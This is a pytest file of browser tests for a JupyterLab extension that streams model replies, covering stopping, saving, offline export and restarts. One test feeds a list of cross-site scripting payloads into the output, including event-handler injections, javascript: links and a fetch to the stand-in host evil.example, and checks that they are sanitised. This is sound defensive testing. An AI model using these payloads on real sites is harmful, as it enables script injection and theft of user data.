"""The live reply in JupyterLab: it grows, it stops, and what is saved shows without a kernel, without trust and without a network."""

import json
import subprocess
import sys
import time

import pytest

from .conftest import versions

# no reply ends by itself, and a token takes 10 ms at least
ENDLESS = """%load_ext gptoss_nb
%gptoss load nano
import time
from gptoss_nb.chat import harmony
from gptoss_nb.engine.generator import Generator
ends, harmony.stop_ids = harmony.stop_ids, lambda tokenizer: frozenset()
fast, Generator._run = Generator._run, lambda self, *given: (time.sleep(0.01), fast(self, *given))[1]"""
QUICK = "%load_ext gptoss_nb\n%gptoss load nano"
ASK = "%%gptoss --max-tokens 1900 --seed 0 -o ans\nWhat is 37 + 45?"
SHORT = "%%gptoss --temperature 0 --seed 0 -o ans\nWhat is 37 + 45?"


@pytest.fixture
def notebook(lab):
    """`notebook(cells, ...)` opens a page; at the end it asked nobody else and nothing popped up."""
    pages = []

    def open(cells, **options):
        pages.append(lab.open(cells, **options))
        return pages[-1]

    yield open
    for page in pages:
        assert (page.outside, page.dialogs) == ([], [])
        page.close()


def begun(page, index: int = 1, tokens: int = 20) -> None:
    """Until so many tokens are in the page."""
    page.page.wait_for_function("([i, n]) => document.querySelectorAll('.jp-Notebook .jp-Cell')[i].querySelectorAll('.gn-token').length >= n", arg=[index, tokens])


def stop(page, index: int = 1) -> float:
    """Seconds from the click to the end of the cell."""
    page.cell(index).get_by_role("button", name="Stop").click(no_wait_after=True)
    started = time.perf_counter()
    page.done(index)
    return time.perf_counter() - started


@pytest.mark.parametrize("kernel", versions())
def test_it_grows_and_stops(notebook, kernel):
    page = notebook([ENDLESS, ASK, "print(ans.stopped, 0 < len(ans.token_ids) < 1900, len(ans.trace) > 20)", SHORT], kernel=kernel)
    page.run(0)
    page.run(1, wait=False)
    begun(page)
    sizes = []
    for _ in range(3):
        sizes.append(len(page.cell(1).locator(".gn-strip").inner_text()))
        page.page.wait_for_timeout(300)
    assert sizes[0] < sizes[1] < sizes[2]
    version = subprocess.run([sys.executable, "-c", "import ipykernel; print(ipykernel.__version__)"], capture_output=True, text=True).stdout if kernel == "installed" else kernel
    soft = not version.startswith("6.")
    seconds = stop(page)
    assert seconds < (0.3 if soft else 1.5)
    page.page.wait_for_selector(".gn-live", state="detached")
    assert "stopped" in page.output(1) and ("KeyboardInterrupt" in page.output(1)) == (not soft)
    page.run(2)
    assert page.output(2).strip() == "True True True"
    page.run(3)
    assert "tokens" in page.output(3)


def test_a_stopped_cell_lets_the_others_run_and_an_interrupted_one_does_not(notebook):
    page = notebook([ENDLESS, ASK, "print('after')"])
    page.run(0)
    for interrupt in (False, True):
        page.cell(1).locator(".jp-InputArea-editor").click()
        page.page.keyboard.press("Shift+Enter")
        page.page.keyboard.press("Shift+Enter")
        begun(page)
        if interrupt:
            page.page.locator('[data-command="notebook:interrupt-kernel"], [data-jp-item-name="interrupt"] jp-button, [data-jp-item-name="interrupt"] button').first.click()
            page.done(1)
        else:
            stop(page)
            page.done(2)
            assert "after" in page.output(2)
            page.cell(2).locator(".jp-InputArea-editor").click()
    page.page.wait_for_timeout(500)
    assert "KeyboardInterrupt: stopped" in page.output(1) and "[ ]" in page.cell(2).locator(".jp-InputPrompt").first.inner_text()


def test_more_lifts_the_limit(notebook):
    page = notebook([ENDLESS, "%%gptoss --max-tokens 100 --seed 0 -o ans\nHello", "print(len(ans.token_ids))"])
    page.run(0)
    page.run(1, wait=False)
    begun(page, tokens=76)
    page.cell(1).get_by_role("button", name="More").click()
    page.done(1)
    page.run(2)
    assert page.output(2).strip() == "200"


def test_the_saved_notebook_shows_it_without_kernel_and_trust(lab, notebook, tmp_path):
    page = notebook([QUICK, SHORT])
    page.run(0)
    page.run(1)
    page.page.wait_for_selector(".gn-live", state="detached")
    saved = page.save()
    (output,) = saved["cells"][1]["outputs"]
    assert set(output["data"]) == {"text/plain", "text/markdown", "text/html"} and "widgets" not in saved["metadata"]
    assert len(json.dumps(output)) < 300_000
    # another name: what JupyterLab has signed it trusts
    about = {**saved["cells"][1], "source": "# somebody else's"}
    again = lab.show(lab.write([about], kernel="no such kernel"))
    try:
        dialog = again.page.locator(".jp-Dialog")
        dialog.wait_for()
        again.page.keyboard.press("Escape")
        shown = again.cell(0).locator(".jp-OutputArea-output").first
        assert "82" in shown.inner_text() and shown.locator("img").evaluate("image => image.complete && image.naturalWidth > 0")
        assert shown.locator("span[title*='E']").count() > 10 and shown.locator("details").count() >= 2
        shown.locator("summary", has_text="thinking").click()
        assert "7+5+0=12" in shown.inner_text()
        assert again.outside == [] and again.dialogs == []
    finally:
        again.close()
    # exported, with the network cut
    exported = tmp_path / "exported.html"
    subprocess.run([sys.executable, "-m", "nbconvert", "--to", "html", str(page.path), "--output", str(exported)], check=True, capture_output=True)
    context = lab.browser.new_context(offline=True)
    try:
        plain = context.new_page()
        plain.goto(exported.as_uri())
        assert "37 + 45 = 82" in plain.inner_text("body") and plain.locator("img[src^='data:image/png']").evaluate("image => image.naturalWidth > 0")
    finally:
        context.close()


HOSTILE = [
    "<script>alert(1)</script><img src=http://evil.example/a.png onerror=alert(2)>",
    "[a](javascript:alert(3)) ![b](http://evil.example/b.png) [c](data:text/html,<script>alert(4)</script>) <http://evil.example/c>",
    "<style>body{display:none}</style><svg onload=alert(5)></svg><iframe src=http://evil.example/></iframe><div style='position:fixed;inset:0'>",
    "```html\"onclick=alert(6)\n<img src=x onerror=alert(7)>\n```\n\n$\\href{javascript:alert(8)}{x}$ \\(\\unicode{x3c}script\\)",
    "'\"><script>fetch('http://evil.example/d')</script>\x1b]8;;http://evil.example\x07\u202e\u2066",
]
SAYS = """from dataclasses import replace
from gptoss_nb.session.turn import Turn
from gptoss_nb.engine.events import Token
said = iter(%r)
def _token(self, event, delta, plain=Turn._token):
    made, text = plain(self, event, delta), next(said, "")
    return replace(made, text=text, channel="final" if len(self.token_ids) %% 2 else "analysis", role="assistant", recipient=None,
                   alternatives=tuple((id, text, p) for id, _, p in made.alternatives))
Turn._token = _token
from gptoss_nb.chat.tokenizer import Tokenizer
Tokenizer.pieces = lambda self, ids, plain=Tokenizer.pieces: [*%r, *plain(self, ids)][: len(ids)]
from gptoss_nb.session import turn as module
module.said = lambda own, thinking: "\\n\\n".join(%r)"""


@pytest.mark.parametrize("when", ["live", "static"])
def test_hostile_replies_stay_text(notebook, when):
    texts = [part for text in HOSTILE for part in (text, text)]
    page = notebook([ENDLESS, SAYS % (texts, texts, texts), "%%gptoss --max-tokens 400 --seed 0 -o ans\nHello"])
    page.run(0)
    page.run(1)
    page.run(2, wait=False)
    begun(page, 2, 30)
    inside = page.cell(2).locator(".gn-live")
    if when == "static":
        stop(page, 2)
        page.page.wait_for_selector(".gn-live", state="detached")
        inside = page.cell(2).locator(".jp-RenderedHTMLCommon").first
    else:
        inside.locator(".gn-token").first.hover()
    page.page.wait_for_timeout(500)
    assert inside.locator("script, iframe, style, svg, object, form").count() == 0
    assert inside.locator("img:not([src^='data:image/png'])").count() == 0
    assert set(inside.locator("a").evaluate_all("links => links.map(link => link.protocol)")) <= {"http:", "https:", "mailto:"}
    assert inside.bounding_box()["width"] > 0 and page.page.locator("body").evaluate("body => getComputedStyle(body).display") != "none"
    if when == "live":
        stop(page, 2)


def test_two_cells_and_a_cell_run_again_while_it_streams(notebook):
    page = notebook([ENDLESS, "%%gptoss --max-tokens 60 --seed 0 -o a\nHello", "%%gptoss --max-tokens 60 --seed 0 -o b\nHello", "print(len(a.token_ids), len(b.token_ids))"])
    page.run(0)
    for index in (1, 2, 1):
        page.run(index, wait=False)
    page.done(2)
    page.done(1)
    page.run(3)
    assert page.output(3).strip() == "60 60" and page.page.locator(".gn-live").count() == 0


def test_a_kernel_that_restarts_in_the_middle(notebook):
    page = notebook([ENDLESS, ASK, SHORT])
    page.run(0)
    page.run(1, wait=False)
    begun(page)
    page.page.locator('[data-jp-item-name="restart"] jp-button, [data-jp-item-name="restart"] button').first.click()
    page.page.locator(".jp-Dialog .jp-mod-accept").click()
    page.page.wait_for_timeout(1500)
    page.run(0)
    page.run(2)
    assert "tokens" in page.output(2)


def test_a_page_that_is_loaded_again_in_the_middle_and_after(notebook):
    page = notebook([ENDLESS, ASK, "print(7 * 6)"])
    page.run(0)
    page.save()
    page.run(1, wait=False)
    begun(page)
    page.page.reload()
    page.page.wait_for_selector(".jp-Notebook .jp-Cell")
    page.ready()
    page.page.locator('[data-jp-item-name="interrupt"] jp-button, [data-jp-item-name="interrupt"] button').first.click()
    page.run(2)
    assert "42" in page.output(2)


def test_the_keyboard_alone(notebook):
    page = notebook([ENDLESS, ASK, "print(ans.trace.generated.argmax())"])
    page.run(0)
    page.run(1, wait=False)
    begun(page)
    strip = page.cell(1).locator(".gn-strip")
    strip.focus()
    told = page.cell(1).locator(".gn-told")
    seen = []
    for key in ("Home", "ArrowRight", "ArrowRight", "ArrowDown"):
        page.page.keyboard.press(key)
        seen.append(told.inner_text())
    assert len(set(seen)) == 4 and "L01:" in told.inner_text() and "E" in told.inner_text()
    page.cell(1).get_by_role("button", name="Stop").focus()
    page.page.keyboard.press("Enter")
    page.done(1)
    assert "stopped" in page.output(1)
    page.run(2)
    assert seen[0].split()[0] == page.output(2).strip()  # the first token is there, however late the page opened
